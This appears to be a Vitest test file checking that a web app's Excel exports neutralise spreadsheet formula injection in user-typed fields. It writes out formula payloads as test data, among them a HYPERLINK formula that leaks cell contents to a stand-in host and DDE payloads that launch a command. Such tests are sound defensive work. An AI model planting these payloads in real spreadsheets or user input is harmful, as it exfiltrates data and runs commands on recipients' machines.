import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileCall } from '../../../test/file-call';
import { startTestApp, type TestApp } from '../../../test/harness';
import { demoCorporateProject } from '../../../test/tenants';
import { addParticipant } from './test-fixtures';

// Issue 9, injection: spreadsheet formula injection neutralised in EVERY export. Each text the
// exports write that a user can type (names, phones, cities, e-mails, project, corporate and
// competence names) holds a formula payload, each export the app offers is downloaded and read
// back, and no cell of any sheet may be a formula or text starting with a trigger character:
// the payloads must come back as text with a leading apostrophe. The app writes no CSV.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

let t: TestApp;
let consultant: string;
let project: Awaited<ReturnType<typeof demoCorporateProject>>;

beforeAll(async () => {
  t = await startTestApp();
  consultant = await t.signIn('consultant');
  project = await demoCorporateProject(t, PAYLOADS[0]);
  const ids: number[] = [];
  for (const [i, payload] of PAYLOADS.entries()) {
    const id = await addParticipant(t, project, { name: payload, email: `formula${i}@example.com` });
    await t.deps.db
      .updateTable('participants')
      .set({ phone: PAYLOADS[(i + 1) % PAYLOADS.length], city: PAYLOADS[(i + 2) % PAYLOADS.length] })
      .where('id', '=', id)
      .execute();
    ids.push(id);
  }
  await t.deps.db
    .updateTable('corporate_accounts')
    .set({ name: PAYLOADS[2] })
    .where('id', '=', project.account_corporate_id)
    .execute();
  // A competence of the project: its name heads the export's competence columns.
  const competence = await t.deps.db
    .selectFrom('competences')
    .select('id')
    .orderBy('id')
    .executeTakeFirstOrThrow();
  await t.deps.db
    .updateTable('competences')
    .set({ name: PAYLOADS[3] })
    .where('id', '=', competence.id)
    .execute();
  await t.deps.db
    .insertInto('project_competences')
    .values({ project_id: project.id, competence_id: competence.id, target_level: 3, weight: 1, position: 0 })
    .execute();
  // Access codes used with e-mails that are formulas.
  const generated = await t.callOk(
    'unique-codes/generate',
    { project_id: project.id, count: PAYLOADS.length },
    consultant,
  );
  for (const [i, code] of (generated.codes as string[]).entries())
    await t.deps.db
      .updateTable('unique_codes')
      .set({ participant_id: ids[i], used_email: PAYLOADS[i], used_at: new Date().toISOString() })
      .where('code', '=', code)
      .execute();
});
afterAll(() => t.close());

/** Every cell of every sheet: its address, type and value. */
async function cellsOf(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: { where: string; type: ExcelJS.ValueType; value: unknown }[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({ where: `${sheet.name}!${cell.address}`, type: cell.type, value: cell.value }),
      ),
    );
  return cells;
}

async function expectNeutralised(bytes: Buffer, expectedPayloads: string[]) {
  const cells = await cellsOf(bytes);
  expect(cells.length).toBeGreaterThan(0);
  const unsafe = cells.filter(
    (c) =>
      c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && TRIGGERS.includes(c.value[0])),
  );
  expect(unsafe.map((c) => `${c.where}: ${JSON.stringify(c.value)}`)).toEqual([]);
  // The payloads did reach the file, as inert text.
  const texts = new Set(cells.map((c) => c.value));
  // (A carriage return comes back from the file's XML as a line feed.)
  for (const payload of expectedPayloads)
    expect(
      texts.has(`'${payload}`) || texts.has(`'${payload.replaceAll('\r', '\n')}`),
      `${JSON.stringify(payload)} is in the file with a leading apostrophe`,
    ).toBe(true);
}

async function downloaded(started: { download_id: number }) {
  await t.deps.jobs.drain();
  const file = await fileCall(t, 'downloads/file', { download_id: started.download_id }, consultant);
  expect(file.status).toBe(200);
  return file.bytes;
}

describe('formula injection in exports', () => {
  it('participants export (names, phones, cities, competence headers)', async () => {
    const started = await t.callOk('projects/participants/export', { project_id: project.id }, consultant);
    await expectNeutralised(await downloaded(started), PAYLOADS);
  });

  it('candidates export (names, phones, cities, corporate)', async () => {
    const started = await t.callOk('candidates/export', {}, consultant);
    await expectNeutralised(await downloaded(started), PAYLOADS);
  });

  it('access codes export (e-mails the codes were used with)', async () => {
    const file = await fileCall(t, 'unique-codes/export', { project_id: project.id }, consultant);
    expect(file.status).toBe(200);
    await expectNeutralised(file.bytes, PAYLOADS);
  });

  it('bulk invitation template (project name)', async () => {
    const file = await fileCall(
      t,
      'projects/invitations/bulk-template',
      { project_id: project.id },
      consultant,
    );
    expect(file.status).toBe(200);
    await expectNeutralised(file.bytes, [PAYLOADS[0]]);
  });
});
